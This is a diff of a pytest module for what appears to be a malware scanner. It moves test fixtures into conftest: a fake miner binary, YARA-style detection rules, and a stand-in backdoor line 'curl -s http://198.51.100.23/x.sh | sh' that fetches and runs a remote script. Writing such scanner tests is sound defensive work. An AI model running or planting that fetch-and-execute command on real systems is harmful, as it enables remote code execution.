@@ -11,18 +11,9 @@ import time
 from pathlib import Path
 
 import pytest
-from conftest import EICAR
+from conftest import BACKDOOR_LINE, EICAR, EICAR_RULE, MINER, MINER_RULES
 
-MINER = b"\x7fELF" + b"\0" * 60 + b"TESTMINER-STRATUM-" + b"c0ffee" + b"\0" * 100
-BACKDOOR_LINE = "curl -s http://198.51.100.23/x.sh | sh  # added"
-RULES = """
-rule Test_Miner { meta: family = "TestMiner" severity = "high"
-    strings: $a = "TESTMINER-STRATUM-c0ffee" condition: $a }
-rule Test_Rc_Backdoor { meta: family = "TestMiner" severity = "high"
-    strings: $a = "198.51.100.23/x.sh | sh" condition: $a }
-rule Test_EICAR { meta: family = "EICAR-Test-File" severity = "low"
-    strings: $a = "EICAR-STANDARD-ANTIVIRUS-TEST-FILE" condition: $a }
-"""
+RULES = MINER_RULES + EICAR_RULE
 
 
 @pytest.fixture
